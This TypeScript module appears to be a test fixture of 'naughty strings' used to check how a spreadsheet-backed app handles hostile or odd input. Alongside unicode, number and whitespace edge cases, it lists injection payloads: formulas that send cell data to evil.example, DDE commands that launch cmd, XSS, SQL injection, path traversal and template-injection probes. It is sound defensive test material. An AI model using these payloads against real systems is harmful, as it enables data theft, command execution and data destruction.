/** Texts that break programs: made by kind, so that each kind is whole and a new one is one line. */

const cross = (starts: readonly string[], ends: readonly string[]) =>
  starts.flatMap((start) => ends.map((end) => `${start}${end}`));
const code = (...points: number[]) => String.fromCharCode(...points);

const FORMULA_SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const LEADING = ['', ' ', '\t', '\r\n', code(0xfeff), code(0x200b), "'", "''", '"'];
const CONTROLS = [...Array.from({ length: 32 }, (_, i) => i), 0x7f, 0x80, 0x85, 0x9f, 0xad, 0x2028, 0x2029, 0xfffe];
const INVISIBLE = [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x034f, 0x061c, 0x3164, 0xffa0];
const DIRECTIONS = [0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];

export const NAUGHTY_STRINGS: Readonly<Record<string, readonly string[]>> = {
  'formulas of every sign behind every blank': cross(LEADING, cross(FORMULA_SIGNS, ['1+1'])),
  'formulas that reach out': [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTDATA("http://evil.example/"&B2)',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A2),"//a")',
    '=IMAGE("https://evil.example/pixel.png")',
    '=IMPORTRANGE("key","Deals!A:Z")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!'A1'",
    '-2+3+cmd|" /C calc"!D2',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=DDE("cmd";"/C calc";"x")',
    'DDE ("cmd";"/C calc";"!A0A")A0',
    "=10+20+cmd|' /C calc'!A0",
    '{=1+1}',
    '=ARRAYFORMULA(A:A)',
    '=A1:A9',
    '=',
    '==',
    '=-',
    '="x',
    "='",
    ';=1+1',
    'x;=1+1',
    'x\n=1+1',
  ],
  markup: [
    '<script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<b>bold</b>',
    '<!-- comment',
    '<![CDATA[x]]>',
    '<style>*{display:none}</style>',
    '<textarea></textarea><input autofocus onfocus=alert(1)>',
    '</main></body></html>',
    '<?xml version="1.0"?>',
    '&lt;script&gt;',
    '&amp;amp;',
    '&#x27;&quot;&nbsp;',
    '<',
    '>',
    '<>',
    '<br>Oy',
    'javascript:alert(1)',
  ],
  'templates, paths, quotations and code': [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: they are texts
    ...['${7*7}', '#{7*7}', '{{7*7}}', '{{constructor.constructor("x")()}}', '<%= 7*7 %>', '<?= 7*7 ?>', '%{7*7}'],
    ...['../../etc/passwd', 'C:\\Windows\\system32', '\\\\server\\share', 'file:///etc/passwd', '/dev/null', 'CON'],
    ...['"', '""', "'", "''", '`', '\\', '\\\\', '\\"', "\\'", '\\n', '\\u0000', '“”', '‘’', '«»', "O'Brien Oy"],
    ...['{"a":1}', '[1,2]', '{"id":"D-000001"}', '[]', '{}', '"text"', '{"__proto__":{"x":1}}', ']}"', '","', "';--"],
    ...["' OR '1'='1", '1; DROP TABLE deals', '$&', '$1', "$'", '$`', '$$', '%s', '%d%n', '%00', '%0d%0a', '+', '*'],
    ...['D-000001', 'D-999999999', 'kanava', 'sheet:deals', 'column:deals.company', 'Deal ID', 'Company', 'Submitted'],
  ],
  'words of programs': [
    ...['null', 'undefined', 'NaN', 'Infinity', '-Infinity', 'true', 'false', 'TRUE', 'FALSE', 'TOSI', 'EPÄTOSI'],
    ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'toJSON', 'then', 'length'],
    ...['None', 'nil', 'N/A', 'n/a', '-', '--', '[object Object]', 'function () {}', 'NULL', 'void 0', 'yes', 'kyllä'],
    ...['#N/A', '#REF!', '#VALUE!', '#DIV/0!', '#NAME?', '#NUM!', '#NULL!', '#ERROR!', '#SPILL!', '#', '##', '###'],
  ],
  'look-alikes of numbers, dates and times': [
    ...['0', '1', '01234', '-1', '+1', '1.5', '1,5', '1 000', '1,000.00', '1.000,00', '1e5', '1E+308', '0x10', '0b1'],
    ...['10%', '10 %', '€5', '5 €', '$5', '(5)', '1/2', '½', '٣', '१२', '１２３', '²', '1_000', '.5', '5.', '00', '-0'],
    ...['1.2.2026', '1.2.', '2026-02-01', '1/2/26', '01-02-2026', 'Jan 5', 'jan', 'May', '5 Dec', 'March 2026'],
    ...['12:30', '12.30', '24:00:00', '2026-11-20T09:30:00.000Z', '1899-12-30', '9999-12-31', 'Q1', '2026W07'],
    ...['+358401234567', '+358 40 123 4567', '00358', '040-1234567', '1-1', '1234567890123456789', '1234567-8'],
    ...['9007199254740993', '1e400', '0.1', '0,1', '12345.678e-9', '1d', '5f', '1n', '1:2:3', '3-5', 'FI12345678'],
  ],
  'control characters': CONTROLS.map((point) => `a${code(point)}b${code(point)}`),
  'directions and invisible signs': [...INVISIBLE, ...DIRECTIONS]
    .map((point) => `${code(point)}a${code(point)}b`)
    .concat(INVISIBLE.map((point) => code(point))),
  'scripts of the world': [
    ...[
      'ÄÖÅ äöå',
      'Ａｃｍｅ',
      'Łódź',
      'İstanbul',
      'ıIiİ',
      'ß',
      'ẞ',
      'ﬁ',
      'ǆ',
      '\u03a9',
      '\u2126',
      '\u00e9',
      'e\u0301',
      '\u212b',
      '\u212a',
    ],
    ...[
      'שלום',
      'العربية',
      'مرحبا Oy',
      'a\u202egnp.exe',
      '日本語',
      '株式会社',
      '한국어',
      '中文公司',
      'ไทย',
      'हिन्दी',
      'Ελληνικά',
      'Привет',
    ],
    ...['🦊', '👩‍👩‍👧‍👦', '👍🏽', '🇫🇮', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '1️⃣', '❤️', '𝕂𝕒𝕟𝕒𝕧𝕒', '𠜎', '\u{10ffff}', '\u{e000}', '\ufffc', '\ufffd'],
    ...[
      `Z${code(0x0301).repeat(50)}algo`,
      code(0x0301),
      `x${code(0x20dd)}`,
      '\uff45\u0301',
      `${code(0xd83d)}x`,
      `x${code(0xde00)}`,
    ],
    ...[code(0xd800), code(0xdfff), code(0xde00, 0xd83d), 'a\u0338', 'ʇxǝʇ', 'ᚠᛇᚻ', '·—·', '…', '™', '©'],
  ],
  'blanks and lines': [
    ...['', ' ', '   ', '\t', '\n', '\r\n', code(0xa0), code(0x3000), code(0x2003), ' x ', '\tx\t', '\nx\n', 'a  b'],
    ...['a\nb', 'a\r\nb', 'a\rb', 'a\n\n\nb', 'a\tb', `a${code(0xa0)}b`, 'a,b', 'a;b', 'a|b', ',', ';', ' = 1', ' ,'],
  ],
  'as long as can be': [
    ...['x'.repeat(4999), 'x'.repeat(5000), '='.repeat(5000), '"'.repeat(5000), '\\'.repeat(5000), 'ä'.repeat(5000)],
    ...['🦊'.repeat(2500), `${'x'.repeat(4999)}🦊`, 'x'.repeat(5001), '='.repeat(5001), 'a '.repeat(2500)],
    ...['a'.repeat(100), 'a'.repeat(101), `${'a'.repeat(99)}🦊`],
  ],
};

/** Each text once, with its kind. */
export const ALL_NAUGHTY: readonly string[] = [...new Set(Object.values(NAUGHTY_STRINGS).flat())];

/**
 * What a person means by it: one kind of line end, no control characters and no half characters; and no apostrophe in
 * front of a formula, which in every sheet only says that this is text.
 */
export function meant(text: string): string {
  const plain = [...text.replace(/\r\n|\r/g, '\n')]
    .filter((sign) => sign === '\n' || sign === '\t' || (sign >= ' ' && sign !== code(0x7f)))
    .map((sign) => (sign.length === 1 && sign >= code(0xd800) && sign <= code(0xdfff) ? '\ufffd' : sign))
    .join('');
  return plain.replace(/^'+(?=[=+\-@＝＋－＠])/, '').replace(/^''+/, "'");
}
